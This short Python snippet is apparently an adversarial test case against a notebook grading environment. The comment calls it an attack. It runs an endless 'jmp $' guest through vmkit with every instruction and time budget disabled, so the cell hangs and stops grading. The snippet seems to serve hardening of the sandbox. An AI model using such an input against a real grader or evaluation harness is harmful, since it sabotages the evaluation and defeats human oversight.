# Attack: a guest that never ends, run with every budget turned off, so that Unicorn never comes back
# to Python and the cell cannot be interrupted: the notebook hangs, and with it the grading.
import vmkit
vmkit.run("jmp $", max_instructions=None, timeout=None)
